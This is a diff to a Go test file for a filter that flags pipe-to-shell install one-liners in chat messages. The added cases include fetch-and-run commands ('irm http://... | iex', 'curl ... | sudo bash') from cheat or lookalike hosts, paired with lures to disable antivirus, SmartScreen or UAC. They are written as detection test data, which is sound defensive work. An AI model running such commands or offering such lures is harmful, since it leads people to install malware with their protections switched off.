@@ -57,3 +57,34 @@ func TestPlainHTTPOneLinersNotReadAsTwins(t *testing.T) {
 		{"@everyone new mod menu: iwr http://modloader.net/menu.ps1 | iex", true},
 	})
 }
+
+// TestPlainHTTPTwinAntivirusBait: a plain-HTTP one-liner sent with words
+// that get it past the reader's antivirus (bypass it, turn AV,
+// SmartScreen, UAC, real-time protection or Windows Security off) is
+// bait and not read as its HTTPS twin (rev42c; each was allowed on
+// a861340, deleted before cmd42). None is in the cmd42 sets.
+func TestPlainHTTPTwinAntivirusBait(t *testing.T) {
+	t.Parallel()
+	checkFlagged(t, []flagCase{
+		{"bypass the antivirus first, then run irm http://gamecheats-hub.com/install.ps1 | iex", true},
+		{"disable smartscreen and UAC then run powershell irm http://fpsboost-tool.com/install.ps1 | iex", true},
+		{"disable real-time protection then irm http://win-tweaks.com/install.ps1 | iex", true},
+		{"bypass AV first: curl -s http://kernel-patch.org/install.sh | sudo bash", true},
+		{"disable windows security, then: irm http://loaderhub.net/install.ps1 | iex", true},
+		{"curl -fsSL http://tailscale.com/install.sh | sh, the antivirus never complained", false},
+	})
+}
+
+// TestPlainHTTPInstallTwinAnyCase: the scheme is read in any case, as
+// dl42's twin reads it (rev42a): HTTP:// and Http:// one-liners from a
+// project's own name are their HTTPS twins (deleted on a861340), and
+// a lookalike or a cheap ending written so is still deleted (rev42c).
+func TestPlainHTTPInstallTwinAnyCase(t *testing.T) {
+	t.Parallel()
+	checkFlagged(t, []flagCase{
+		{"curl -fsSL HTTP://tailscale.com/install.sh | sh", false},
+		{"irm Http://get.scoop.sh | iex", false},
+		{"curl -fsSL HTTP://devsetup.top/install.sh | bash", true},
+		{"curl -fsSL HTTP://bunsh.net/install | bash", true},
+	})
+}
